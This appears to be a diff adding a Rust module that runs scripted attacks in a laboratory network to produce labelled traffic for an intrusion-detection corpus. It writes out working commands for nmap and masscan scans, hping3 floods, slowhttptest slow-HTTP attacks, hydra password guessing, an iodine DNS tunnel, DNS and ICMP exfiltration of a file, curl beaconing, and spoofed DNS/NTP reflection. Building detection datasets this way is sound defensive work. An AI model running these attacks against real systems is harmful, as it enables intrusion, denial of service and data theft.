@@ -1,0 +1,370 @@
+//! The attacks of the corpus, by the tools that attackers use.
+
+use std::net::IpAddr;
+use std::path::Path;
+use std::process::Output;
+use std::thread;
+use std::time::Duration;
+
+use anyhow::{Context, Result, ensure};
+use rand::Rng;
+use rand_xoshiro::Xoshiro256PlusPlus;
+
+use super::files::{ACCOUNT, Files};
+use super::rules::Trace;
+use super::servers::{self, AMPLE, DROP, NTP, TUNNEL};
+use super::site::Site;
+use super::{Equipment, Part};
+use crate::frames::{Frame, Ipv4, Ports};
+use crate::lab::{Host, Interface, IpVersion, wait_until};
+use crate::process::Process;
+use crate::traffic::dns::{self, Kind, LONGEST_LABEL};
+use crate::traffic::peers::Exchange;
+use crate::traffic::raw::{FrameSender, Rate};
+
+/// Longest that a tool may take.
+const LIMIT: Duration = Duration::from_secs(45);
+
+/// What an attack has to work with.
+pub(super) struct Scene<'a> {
+    pub(super) part: Part,
+    pub(super) site: &'a Site,
+    pub(super) files: &'a Files,
+    /// Silent until now.
+    pub(super) attacker: &'a Interface,
+    /// Where what leaves the site goes.
+    pub(super) far: &'a Interface,
+    pub(super) random: Xoshiro256PlusPlus,
+}
+
+/// An attack of the corpus.
+#[derive(Debug, Clone, Copy)]
+pub struct Attack {
+    /// The label of its flows.
+    pub class: &'static str,
+    /// What runs it, and how, in a few words.
+    pub tool: &'static str,
+    /// What must be there for it.
+    pub equipment: Equipment,
+    /// Packets below which it has not taken place.
+    pub least: u64,
+    launch: Launch,
+}
+
+impl Attack {
+    /// Runs it to its end. Returns how its flows are recognised.
+    pub(super) fn launch(&self, scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+        (self.launch)(scene).with_context(|| format!("the attack {} ({})", self.class, self.tool))
+    }
+}
+
+type Launch = fn(&mut Scene<'_>) -> Result<Vec<Trace>>;
+
+/// Every class of attack.
+pub const ATTACKS: &[Attack] = &[
+    by_tool("syn_scan", "nmap -sS", 1000, syn_scan),
+    by_tool("connect_scan", "nmap -sT", 800, connect_scan),
+    by_tool("stealth_scan", "nmap -sF -sX -sN", 800, stealth_scan),
+    by_tool("udp_scan", "nmap -sU", 200, udp_scan),
+    by_tool("horizontal_scan", "nmap -sS, many hosts", 500, horizontal_scan),
+    by_tool("masscan", "masscan", 2000, masscan),
+    by_tool("syn_flood", "hping3 -S --rand-source", 5000, syn_flood),
+    by_tool("udp_flood", "hping3 --udp", 5000, udp_flood),
+    by_tool("icmp_flood", "hping3 --icmp", 5000, icmp_flood),
+    by_tool("slow_http", "slowhttptest -H", 500, slow_http),
+    by_tool("slow_read", "slowhttptest -X", 500, slow_read),
+    by_tool("brute_force_ssh", "hydra ssh", 500, brute_force_ssh),
+    by_tool("brute_force_ftp", "hydra ftp", 200, brute_force_ftp),
+    by_tool("dns_tunnel", "iodine", 300, dns_tunnel),
+    by_us("dns_exfiltration", "a file in names", 100, dns_exfiltration),
+    by_tool("icmp_exfiltration", "hping3 --icmp --file", 100, icmp_exfiltration),
+    by_tool("beacon", "curl, again and again", 80, beacon),
+    by_us("reflection", "questions in another's name", 500, reflection),
+];
+
+const fn by_tool(class: &'static str, tool: &'static str, least: u64, launch: Launch) -> Attack {
+    Attack { class, tool, equipment: Equipment::Corpus, least, launch }
+}
+
+/// What no program of Debian does.
+const fn by_us(class: &'static str, tool: &'static str, least: u64, launch: Launch) -> Attack {
+    Attack { class, tool, equipment: Equipment::Laboratory, least, launch }
+}
+
+fn syn_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let ports = scene.part.choose("-p 1-2000", "--top-ports 1500 -T4");
+    scene.scan("-sS", ports, 300)
+}
+
+fn connect_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let ports = scene.part.choose("-p 1-1200", "-p 7000-8200");
+    scene.scan("-sT", ports, 200)
+}
+
+fn stealth_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let ports = scene.part.choose("-p 1-500", "--top-ports 400");
+    scene.scan("-sF", ports, 150)?;
+    scene.scan("-sX", ports, 150)?;
+    scene.scan("-sN", ports, 150)
+}
+
+/// The kernel answers few of these a second (icmp_ratelimit, ip-sysctl.rst), for which nmap would wait.
+fn udp_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let ports = scene.part.choose("-p 1-400", "--top-ports 300");
+    scene.scan("-sU --min-rate 60", ports, 80)
+}
+
+fn horizontal_scan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let targets = scene.part.choose("-p 445 10.80.0.0/22", "-p 22,3389 10.80.64.0/23");
+    let rate = scene.vary(150);
+    let nmap = format!("nmap -n -Pn -sS --max-retries 1 --min-rate 60 --max-rate {rate} {targets}");
+    scene.run(&scene.attacker.host, &nmap)?;
+    Ok(vec![scene.farm()])
+}
+
+fn masscan(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let targets = scene.part.choose("-p80,443,8080 10.80.128.0/22", "-p0-4000 10.80.192.1");
+    let (rate, attacker) = (scene.vary(700), scene.attacker);
+    let router = scene.site.server.mac.to_string().replace(':', "-");
+    let masscan = format!(
+        "masscan {targets} --rate {rate} --wait 1 --seed {seed} --interface {name} --adapter-ip {v4} \
+         --router-mac {router}",
+        seed = scene.random.gen_range(1..1_000_000),
+        name = attacker.name,
+        v4 = attacker.v4
+    );
+    let tool = attacker.host.spawn(words(&masscan))?;
+    // It looks whether to end when a frame comes in: here some that the server does not see.
+    let poke = format!("ping -n -q -c 1 -W 1 {}", attacker.v4);
+    let over = || {
+        thread::sleep(Duration::from_millis(500));
+        scene.run(&scene.far.host, &poke)?;
+        Ok(!tool.is_running()?)
+    };
+    wait_until(LIMIT, over)?;
+    let output = tool.wait(LIMIT)?;
+    ensure!(output.status.success(), "{masscan} failed ({})", said(&output));
+    Ok(vec![scene.farm()])
+}
+
+fn syn_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let port = scene.part.choose(80, 443);
+    scene.flood(&format!("-S -p {port} --rand-source"), 2000)?;
+    let victim = &scene.site.server;
+    // The /24 of the site: the address plan of the laboratory.
+    Ok(vec![Trace::FromAnybodyBut { known: format!("{}/24", victim.v4), victim: victim.v4.into(), port }])
+}
+
+fn udp_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let ports = scene.part.choose("-p 9000", "-p ++10000");
+    let length = scene.vary(scene.part.choose(512, 1000));
+    scene.flood(&format!("--udp {ports} -d {length}"), 2000)
+}
+
+fn icmp_flood(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let length = scene.vary(scene.part.choose(56, 600));
+    scene.flood(&format!("--icmp -d {length}"), 1500)
+}
+
+/// Headers that never come to their end.
+fn slow_http(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let pace = scene.part.choose("-i 1 -x 12", "-i 2 -x 30");
+    scene.slow(&format!("-H {pace}"), "http", "", 150)
+}
+
+/// Answers that are hardly read.
+fn slow_read(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let pace = scene.part.choose("-w 10 -y 40 -n 1 -z 16 -k 2", "-w 200 -y 500 -n 2 -z 64 -k 3");
+    scene.slow(&format!("-X {pace}"), "http", "long", 100)
+}
+
+/// In several rounds, as of somebody who tries not to be locked out.
+fn brute_force_ssh(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let (user, tasks, tries) = scene.part.choose(("root", 4, 8), (ACCOUNT, 6, 18));
+    let rounds = scene.vary(10);
+    (0..rounds).try_for_each(|_| scene.guess("ssh", user, tasks, tries))?;
+    Ok(scene.whole())
+}
+
+fn brute_force_ftp(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let (user, tasks) = scene.part.choose((ACCOUNT, 12), ("admin", 16));
+    let tries = scene.vary(30);
+    scene.guess("ftp", user, tasks, tries)?;
+    Ok(scene.whole())
+}
+
+/// A network in questions and answers that the server's resolver passes on to the far end.
+fn dns_tunnel(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    ensure!(
+        Path::new("/dev/net/tun").exists(),
+        "there is no /dev/net/tun, which the tunnel's ends are: load the module tun"
+    );
+    let (attacker, server) = (scene.attacker, &scene.site.server);
+    let (inner, options) = scene.part.choose(("10.99.1.1", "-T NULL"), ("10.99.2.1", "-T TXT -m 600"));
+    let (iodine, iodined) = (servers::program("iodine"), servers::program("iodined"));
+    let secret = format!("s{}", scene.random.r#gen::<u32>());
+    let _far_end =
+        scene.far.host.spawn(words(&format!("{iodined} -f -c -P {secret} -l {} {inner} {TUNNEL}", scene.far.v4)))?;
+    let client = format!("{iodine} -f -r {options} -P {secret} {} {TUNNEL}", server.v4);
+    let near_end = attacker.host.spawn(words(&client))?;
+    let up = || {
+        ensure!(near_end.is_running()?, "it has ended");
+        Ok(near_end.stderr().text().contains("Connection setup complete"))
+    };
+    wait_until(LIMIT, up).with_context(|| format!("iodine said: {}", near_end.stderr().text()))?;
+    // iodine makes its interface by ifconfig, which says what became of it.
+    attacker.host.run_ok(["ifconfig", "dns0"])?;
+    let count = scene.vary(150);
+    let size = scene.vary(scene.part.choose(300, 600));
+    scene.run(&attacker.host, &format!("ping -n -q -i 0.04 -W 2 -c {count} -s {size} {inner}"))?;
+    Ok(vec![Trace::between(attacker.v4, server.v4), Trace::between(server.v4, scene.far.v4)])
+}
+
+/// A file, a few dozen bytes a name, by way of the server's resolver.
+fn dns_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let sink = format!("--address=/{DROP}/192.0.2.7");
+    let _far_end = servers::names(scene.far, &[sink])?;
+    let (attacker, server) = (scene.attacker, scene.site.server.socket(IpVersion::V4, 53));
+    let (labels, length) = scene.part.choose((2, 50), (3, LONGEST_LABEL));
+    let (count, rate) = (scene.vary(120), scene.vary(scene.part.choose(25, 12)));
+    for n in 0..count {
+        const BASE32: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
+        let random = &mut scene.random;
+        let mut piece = || (0..length).map(|_| char::from(BASE32[random.gen_range(0..32)])).collect::<String>();
+        let data = (0..labels).map(|_| piece()).collect::<Vec<_>>().join(".");
+        let (id, name) = (scene.random.r#gen(), format!("{n}.{data}.{DROP}"));
+        attacker.host.enter(|| dns::ask_from_here(server, id, &name, Kind::A))??;
+        thread::sleep(Duration::from_secs(1) / rate);
+    }
+    Ok(vec![Trace::between(attacker.v4, server.ip()), Trace::between(server.ip(), scene.far.v4)])
+}
+
+/// The server sends a file in questions that look like those of ping.
+fn icmp_exfiltration(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let (server, far) = (&scene.site.server, scene.attacker);
+    let (length, count) = (scene.vary(scene.part.choose(1200, 700)), scene.vary(200));
+    let pause_us = 1_000_000 / scene.vary(scene.part.choose(40, 25));
+    let file = scene.files.path("secret");
+    std::fs::write(&file, (0..length * count).map(|_| scene.random.r#gen()).collect::<Vec<u8>>())?;
+    let hping = format!("hping3 --icmp -q -d {length} -E {} -c {count} -i u{pause_us} {}", file.display(), far.v4);
+    scene.run(&server.host, &hping)?;
+    Ok(vec![Trace::between(server.v4, far.v4)])
+}
+
+/// The server calls an address that nobody else calls, at even intervals.
+fn beacon(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let (server, far) = (&scene.site.server, scene.attacker);
+    let _far_end = servers::web(far, scene.files)?;
+    let scheme = scene.part.choose("https", "http");
+    let (period_ms, count) = (f64::from(scene.vary(scene.part.choose(1000, 700))), 14);
+    for _ in 0..count {
+        let jitter = scene.random.gen_range(0.95..1.05);
+        scene.run(
+            &server.host,
+            &format!("curl -q --silent --insecure --fail --max-time 5 {scheme}://{}/health", far.v4),
+        )?;
+        thread::sleep(Duration::from_secs_f64(period_ms * jitter / 1000.0));
+    }
+    Ok(vec![Trace::between(server.v4, far.v4)])
+}
+
+/// Somebody asks others in the server's name, and they answer to the server: names in both parts, in one the time too.
+fn reflection(scene: &mut Scene<'_>) -> Result<Vec<Trace>> {
+    let server = &scene.site.server;
+    let (rate, seconds) = (scene.vary(scene.part.choose(250, 400)), 5);
+    let clock = Exchange { request: 48, response: 468 };
+    let clock = clock.opening(clock.request as usize)?;
+    let mut frames = Vec::new();
+    for n in 0..rate * seconds {
+        let responder = &scene.site.responders[n as usize % scene.site.responders.len()];
+        let by_name = scene.part == Part::Train || n % 2 == 0;
+        let (port, question) =
+            if by_name { (53, dns::question(scene.random.r#gen(), AMPLE, Kind::Txt)?) } else { (NTP, clock.clone()) };
+        let header = Ipv4 { source: server.v4, destination: responder.v4, ..Ipv4::default() };
+        let ports = Ports { source: scene.random.gen_range(1024..=u16::MAX), destination: port };
+        let frame = Frame::between(scene.attacker.mac, responder.mac).ipv4(&header).udp(ports);
+        frames.push(frame.payload(&question).finish());
+    }
+    FrameSender::open(scene.attacker)?.send(&frames, 1, Rate::PerSecond(rate))?;
+    Ok(scene.site.responders.iter().map(|responder| Trace::between(server.v4, responder.v4)).collect())
+}
+
+impl Scene<'_> {
+    /// About so many: a fifth more or less.
+    fn vary(&mut self, number: u32) -> u32 {
+        let fifth = (number / 5).max(1);
+        self.random.gen_range(number - fifth..=number + fifth)
+    }
+
+    fn victim(&self) -> IpAddr {
+        self.site.server.v4.into()
+    }
+
+    /// All that the attacker and the server have to do with each other.
+    fn whole(&self) -> Vec<Trace> {
+        vec![Trace::between(self.attacker.v4, self.victim())]
+    }
+
+    fn farm(&self) -> Trace {
+        Trace::Between(self.attacker.v4.to_string(), super::site::FARM.to_owned())
+    }
+
+    fn scan(&mut self, kind: &str, ports: &str, rate: u32) -> Result<Vec<Trace>> {
+        let (rate, victim) = (self.vary(rate), self.victim());
+        let nmap = format!("nmap -n -Pn {kind} {ports} --max-retries 1 --max-rate {rate} {victim}");
+        self.run(&self.attacker.host, &nmap)?;
+        Ok(self.whole())
+    }
+
+    /// About five seconds of packets.
+    fn flood(&mut self, kind: &str, rate: u32) -> Result<Vec<Trace>> {
+        let rate = self.vary(rate);
+        let hping = format!("hping3 {kind} -q -c {} -i u{} {}", rate * 5, 1_000_000 / rate, self.victim());
+        let output = self.attempt(&self.attacker.host, &hping)?;
+        // 1: nobody answered.
+        ensure!(matches!(output.status.code(), Some(0 | 1)), "{hping} failed ({})", said(&output));
+        Ok(self.whole())
+    }
+
+    /// Connections to a web server that are kept up for eight seconds.
+    fn slow(&mut self, kind: &str, scheme: &str, path: &str, connections: u32) -> Result<Vec<Trace>> {
+        let (connections, victim) = (self.vary(connections), self.victim());
+        let url = format!("{scheme}://{victim}/{path}");
+        self.run(&self.attacker.host, &format!("slowhttptest {kind} -c {connections} -r 60 -l 8 -p 3 -u {url}"))?;
+        Ok(self.whole())
+    }
+
+    fn guess(&mut self, service: &str, user: &str, tasks: u32, tries: u32) -> Result<()> {
+        let passwords = self.files.write_passwords(&mut self.random, tries)?;
+        let victim = self.victim();
+        let hydra = format!("hydra -I -l {user} -P {passwords} -t {tasks} {service}://{victim}");
+        let output = self.attempt(&self.attacker.host, &hydra)?;
+        // Its exit code says whether a password was found.
+        let done = String::from_utf8_lossy(&output.stdout).contains("1 of 1 target completed, 0 valid password");
+        ensure!(done, "{hydra} did not come to its end ({})", said(&output));
+        Ok(())
+    }
+
+    /// Runs a tool that must succeed.
+    fn run(&self, host: &Host, command: &str) -> Result<()> {
+        let output = self.attempt(host, command)?;
+        ensure!(output.status.success(), "{command} failed ({})", said(&output));
+        Ok(())
+    }
+
+    /// Runs a tool where it may leave files behind.
+    fn attempt(&self, host: &Host, command: &str) -> Result<Output> {
+        let mut tool = host.command(words(command));
+        tool.current_dir(self.files.path(""));
+        Process::start(tool)?.wait(LIMIT)
+    }
+}
+
+fn words(command: &str) -> impl Iterator<Item = &str> {
+    command.split_whitespace()
+}
+
+fn said(output: &Output) -> String {
+    let texts = [&output.stdout, &output.stderr].map(|text| String::from_utf8_lossy(text).trim().to_owned());
+    format!("{}); it said: {}", output.status, texts.join("\n"))
+}
